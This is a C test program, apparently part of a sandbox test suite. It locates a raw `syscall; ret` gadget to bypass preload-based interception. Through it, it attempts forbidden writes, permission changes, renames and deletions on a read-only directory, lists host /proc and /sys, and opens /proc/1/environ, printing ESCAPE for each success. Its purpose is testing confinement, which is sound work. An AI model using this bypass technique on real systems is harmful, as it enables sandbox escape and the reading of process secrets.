/* --rw P --ro P/conf (and --ro /): through ld-preld's `syscall; ret` with a
 * directory fd of P, of /, and a read-only fd of P/conf/x: writes, fchmod,
 * futimens, fsetxattr, rename, unlink of P/conf/x must fail; proc/ and sys/
 * below / must list nothing of the host. ESCAPE marks a success. */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>
#include <sys/xattr.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }
static void rep(const char *l, long r) { printf("%s: %s%s\n", l, r >= 0 ? "ok" : strerror((int)-r), r >= 0 ? " ESCAPE" : (r == -4000 ? " ESCAPE: errno 4000" : "")); fflush(stdout); }
static long count(long fd) {
    char buf[8192]; long n = g(SYS_getdents64, fd, (long)buf, sizeof buf, 0);
    if (n < 0) return n;
    long c = 0; for (long o = 0; o < n;) { struct { unsigned long i; long off; unsigned short rl; } *d = (void *)(buf + o); c++; o += d->rl; }
    return c - 2;
}
int main(int argc, char **argv) {
    const char *P = argv[1];
    find_gadgets();
    if (!ncand) { printf("no gadget\n"); return 0; }
    for (int k = 0; k < ncand && k < 12; k++) {
        G = cands[k];
        long dp = lc(open(P, O_RDONLY | O_DIRECTORY));
        char cp[512]; snprintf(cp, sizeof cp, "%s/conf", P);
        long dc = lc(open(cp, O_RDONLY | O_DIRECTORY));
        snprintf(cp, sizeof cp, "%s/conf/x", P);
        long fx = lc(open(cp, O_RDONLY));
        printf("gadget %d: fds P %ld conf %ld x %ld\n", k, dp, dc, fx);
        rep("openat(P, conf/x, O_WRONLY)", g(SYS_openat, dp, (long)"conf/x", O_WRONLY, 0));
        rep("openat(conf, x, O_RDWR)", g(SYS_openat, dc, (long)"x", O_RDWR, 0));
        rep("openat(P, conf/new, O_CREAT)", g(SYS_openat, dp, (long)"conf/new", O_CREAT | O_WRONLY, 0644));
        rep("fchmodat(P, conf/x)", g(SYS_fchmodat, dp, (long)"conf/x", 0777, 0));
        rep("fchmod(x)", g(SYS_fchmod, fx, 0777, 0, 0));
        struct timespec ts[2] = {{1, 0}, {1, 0}};
        rep("futimens(x)", g(SYS_utimensat, fx, 0, (long)ts, 0));
        rep("utimensat(P, conf/x)", g(SYS_utimensat, dp, (long)"conf/x", (long)ts, 0));
        rep("fsetxattr(x)", call_gadget5(G, SYS_fsetxattr, fx, (long)"user.a", (long)"b", 1, 0));
        rep("renameat(P, conf/x, P, y)", call_gadget5(G, SYS_renameat2, dp, (long)"conf/x", dp, (long)"y", 0));
        rep("renameat(P, conf, P, c2)", call_gadget5(G, SYS_renameat2, dp, (long)"conf", dp, (long)"c2", 0));
        rep("unlinkat(P, conf/x)", g(SYS_unlinkat, dp, (long)"conf/x", 0, 0));
        rep("unlinkat(conf, x)", g(SYS_unlinkat, dc, (long)"x", 0, 0));
        rep("truncate via openat O_TRUNC", g(SYS_openat, dp, (long)"conf/x", O_RDONLY | O_TRUNC, 0));
        long root = lc(open("/", O_RDONLY | O_DIRECTORY));
        long pr = g(SYS_openat, root, (long)"proc", O_RDONLY | O_DIRECTORY, 0);
        long sy = g(SYS_openat, root, (long)"sys", O_RDONLY | O_DIRECTORY, 0);
        long pc = pr >= 0 ? count(pr) : pr, sc = sy >= 0 ? count(sy) : sy;
        printf("around the handler: / proc %ld entries, sys %ld entries%s\n", pc, sc, pc > 0 || sc > 0 ? " ESCAPE: the host's" : "");
        long e = g(SYS_openat, root, (long)"proc/1/environ", O_RDONLY, 0);
        printf("proc/1/environ: %s%s\n", e >= 0 ? "opened" : strerror((int)-e), e >= 0 ? " ESCAPE" : "");
        fflush(stdout);
    }
    return 0;
}
